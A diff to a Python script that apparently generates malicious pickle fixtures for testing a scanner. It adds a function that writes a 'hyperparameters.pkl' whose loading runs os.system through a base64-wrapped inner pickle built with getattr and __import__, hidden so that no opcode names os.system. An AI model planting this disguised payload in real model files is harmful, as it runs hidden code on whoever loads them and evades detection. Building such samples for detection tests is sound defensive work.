@@ -9,6 +9,7 @@ spliced into a torch checkpoint made by torch; nothing is ever unpickled. The co
 would run only prints a line, and names attacker.invalid, a host that cannot exist.
 """
 
+import base64
 import io
 import os
 import pickle
@@ -57,6 +58,21 @@ def malicious_pickle():
     return op.proto(2) + op.call1("os", "system", COMMAND) + op.STOP
 
 
+def obfuscated_pickle():
+    """A model.pkl that looks like a dict of hyper-parameters. While it loads, it unpickles a
+    base64-encoded second pickle whose call is getattr(__import__('os'), 'system')(COMMAND):
+    no GLOBAL names os.system anywhere, and the outer call's result is popped."""
+    inner = (op.proto(2) + op.global_("builtins", "getattr") + op.global_("builtins", "__import__") +
+             op.binunicode("os") + op.TUPLE1 + op.REDUCE + op.binunicode("system") + op.TUPLE2 +
+             op.REDUCE + op.binunicode(COMMAND) + op.TUPLE1 + op.REDUCE + op.STOP)
+    op.check("inner pickle", inner)
+    encoded = base64.b64encode(inner).decode("ascii")
+    return (op.proto(3) + op.global_("pickle", "loads") +
+            op.call1("base64", "b64decode", encoded) + op.TUPLE1 + op.REDUCE + op.POP +
+            op.EMPTY_DICT + op.binunicode("learning_rate") + op.binfloat(0.001) + op.SETITEM +
+            op.binunicode("epochs") + op.binint1(10) + op.SETITEM + op.STOP)
+
+
 def checkpoint_with_payload(checkpoint):
     """The torch checkpoint with os.system(COMMAND) spliced into archive/data.pkl.
 
@@ -82,6 +98,9 @@ def main():
     op.check("model.pkl", payload)
     write("malicious/model.pkl", payload)
     write("malicious/pytorch_model.bin", checkpoint_with_payload(checkpoint))
+    hidden = obfuscated_pickle()
+    op.check("hyperparameters.pkl", hidden)
+    write("malicious/hyperparameters.pkl", hidden)
 
 
 if __name__ == "__main__":
